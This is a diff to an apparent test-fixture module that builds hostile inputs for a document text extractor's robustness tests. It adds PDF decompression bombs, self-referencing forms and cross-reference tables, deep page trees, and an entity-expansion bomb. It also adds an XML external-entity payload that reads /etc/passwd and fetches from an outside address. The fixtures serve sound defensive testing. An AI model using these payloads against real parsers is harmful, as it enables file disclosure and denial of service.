@@ -5,6 +5,7 @@ import io
 import os
 import zlib
 from dataclasses import dataclass
+from functools import cache
 
 
 @dataclass(frozen=True)
@@ -55,14 +56,47 @@ def many_pages(count):
     )
 
 
-def flate_bomb():
-    squeezed = zlib.compress(b" " * 300_000_000, 9)
+@cache
+def _squeezed():
+    return zlib.compress(b" " * 300_000_000, 9)
+
+
+def flate_bomb(times=1):
+    """A page whose content unpacks to 300 MB; squeezed twice, from some hundred bytes."""
+    content = _squeezed()
+    for _ in range(times - 1):
+        content = zlib.compress(content, 9)
     return raw_pdf(
         b"<</Type/Catalog/Pages 2 0 R>>",
         b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
         b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]/Contents 4 0 R>>",
-        stream(squeezed, b"/Filter/FlateDecode"),
+        stream(content, b"/Filter[" + b"/FlateDecode" * times + b"]"),
     )
+
+
+def self_drawing():
+    """A page whose only content is a form that draws itself."""
+    form = b"/Type/XObject/Subtype/Form/BBox[0 0 600 800]/Resources<</XObject<</F 4 0 R>>>>"
+    return raw_pdf(
+        b"<</Type/Catalog/Pages 2 0 R>>",
+        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
+        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]/Contents 5 0 R/Resources<</XObject<</F 4 0 R>>>>>>",
+        stream(b"/F Do", form),
+        stream(b"/F Do"),
+    )
+
+
+def looping_table():
+    """A cross-reference table that goes on at itself."""
+    good = pdf(READABLE)
+    start = good.rindex(b"xref", 0, good.rindex(b"startxref"))
+    return good.replace(b"/Size", f"/Prev {start} /Size".encode(), 1)
+
+
+def deep_tree(levels):
+    """A page below so many nodes of the page tree."""
+    nodes = [f"<</Type/Pages/Kids[{number + 3} 0 R]/Count 1>>".encode() for number in range(levels)]
+    return raw_pdf(b"<</Type/Catalog/Pages 2 0 R>>", *nodes, b"<</Type/Page/MediaBox[0 0 600 800]>>")
 
 
 def cyclic_pages():
@@ -72,6 +106,8 @@ def cyclic_pages():
 HTML = b"<html><body><p>Revenue was $5 million in the year.</p></body></html>"
 TEXT = b"Revenue was $5 million in the year.\n"
 READABLE = "Revenue was $5 million in the year."
+READING = b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY f SYSTEM "file:///etc/passwd"><!ENTITY % p SYSTEM "http://192.0.2.1/">%p;]>'
+BLOW_UP = b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "' + b"ha" * 50_000 + b'">]><html><body><p>'
 LAUGHS = (
     b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha">'
     + b"".join(f'<!ENTITY {chr(98 + i)} "{f"&{chr(97 + i)};" * 10}">'.encode() for i in range(12))
@@ -79,8 +115,13 @@ LAUGHS = (
 )
 
 
+@cache
 def cases():
     """At least forty of them."""
+    return tuple(_cases())
+
+
+def _cases():
     good_pdf = pdf(READABLE)
     yield Case("empty.pdf", b"", "empty file")
     yield Case("empty.txt", b"", "empty file")
@@ -100,6 +141,10 @@ def cases():
     yield Case("scan.pdf", pdf("", ""), "no text layer")
     yield Case("endless.pdf", many_pages(100_000), "more than 5000")
     yield Case("bomb.pdf", flate_bomb(), "no text layer")
+    yield Case("bombs.pdf", flate_bomb(times=2), "no text layer")
+    yield Case("itself.pdf", self_drawing(), "no text layer")
+    yield Case("loop.pdf", looping_table(), None)
+    yield Case("tree.pdf", deep_tree(5_000), "")
     yield Case("cycle.pdf", cyclic_pages(), "")
     yield Case("wall.pdf", pdf(READABLE, mediabox=(14_000, 14_000)), None)
     yield Case("pdf.txt", good_pdf, None)  # mislabelled: goes by content
@@ -129,6 +174,9 @@ def cases():
     yield Case("tables.html", b"<html><body>" + b"<table><tr><td>" * 3000 + b"1", "nested")
     yield Case("open.html", b"<html><body>" + b"<b>" * 1500 + TEXT, None)
     yield Case("laughs.html", LAUGHS, None)
+    yield Case("blow_up.html", BLOW_UP + b"&a;" * 20_000 + b" Revenue was $5 million.</p></body></html>", None)
+    yield Case("reading.html", READING + b"<html><body><p>Revenue &f; was $5 million.</p></body></html>", None)
+    yield Case("cells.html", b"<html><table>" + (b"<tr>" + b"<td>5" * 100) * 300 + b"</table></html>", None)
     yield Case("spans.html", b"<html><table><tr><td colspan=999999999>Sales<td rowspan=99999999>5</table>", None)
     yield Case("wide.html", b"<html><body><p>" + b"x" * 5_000_000 + b" Revenue.</p></body></html>", None)
     yield Case("attribute.html", b"<html><body><p style='" + b"a" * 2_000_000 + b"'>Revenue was up.</p>", None)
@@ -139,6 +187,7 @@ def cases():
     yield Case("mac.txt", b"Revenue was up.\rCosts were down.\r", None)
     yield Case("line.txt", b"word " * 2_000_000, None)
     yield Case("digits.txt", b"7" * 3_000_000, None)
+    yield Case("odd.txt", b"\n".join(part * 20_000 for part in ODD), None)
     yield Case("controls.txt", b"Revenue \x07\x1b[31m was up by five percent in the year and so on and on.", None)
     yield Case("markdown.md", b"# Item 7\n\n| | 2022 |\n|---|---|\n| Sales | 5 |\n", None)
     yield Case("odd\nname.txt", TEXT, None)
@@ -146,5 +195,26 @@ def cases():
     yield Case("side2.txt", TEXT, "fiscal_year is 'x', not a int")
     yield Case("side3.txt", TEXT, "its sidecar is not TOML")
 
+
+# what makes careless patterns try again and again
+ODD = (
+    b"(",
+    b"1,",
+    b"$ ",
+    b"|",
+    b"- ",
+    b". ",
+    b"1 ",
+    b"a  ",
+    b"  ",
+    b"\t5",
+    b"(1) ",
+    b"<b>",
+    b"# ",
+    b"January ",
+    b"'s ",
+    b"1.",
+    b"&",
+)
 
 SIDECARS = {"side.txt": 'companny = "Acme"', "side2.txt": 'fiscal_year = "x"', "side3.txt": "company = "}
